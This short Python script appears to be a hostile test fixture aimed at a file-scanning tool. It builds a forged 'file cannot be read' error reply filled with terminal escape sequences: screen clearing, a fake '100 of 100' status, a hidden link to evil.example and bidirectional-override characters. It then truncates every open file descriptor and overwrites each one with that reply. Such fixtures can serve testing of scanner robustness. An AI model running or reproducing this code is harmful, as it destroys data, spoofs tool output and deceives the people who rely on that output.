# what: forge a reply that says that the file cannot be read, with a file name that a terminal would act on

import json
import os
import struct

SPOOF = "\x1b[2J\x1b[HTotal: 100 of 100\x1b]8;;http://evil.example\x07\u202e\u2066\x9b31m"


def plain(value):
    if isinstance(value, dict):
        return {"$": "dict", "items": [[name, plain(each)] for name, each in value.items()]}
    return [plain(each) for each in value] if isinstance(value, list) else value


def attack():
    error = {
        "type": "SyntaxError",
        "message": SPOOF,
        "file": SPOOF * 3,
        "line": 3,
        "code": SPOOF,
        "chain": [],
        "meant": None,
        "takes": None,
        "near": [],
        "layer": None,
    }
    reply = {
        "where": None,
        "import_error": error,
        "missing": None,
        "because": SPOOF,
        "left_out": None,
        "unread": "file",
        "notes": [SPOOF, "stage2_model.ipynb raised " + SPOOF],
        "findings": [],
        "replies": [],
    }
    header = json.dumps({"__metadata__": {"values": json.dumps(plain(reply))}}).encode()
    for number in range(3, 64):
        try:
            os.ftruncate(number, 0)
            os.pwrite(number, struct.pack("<Q", len(header)) + header, 0)
        except OSError:
            pass
    os._exit(0)
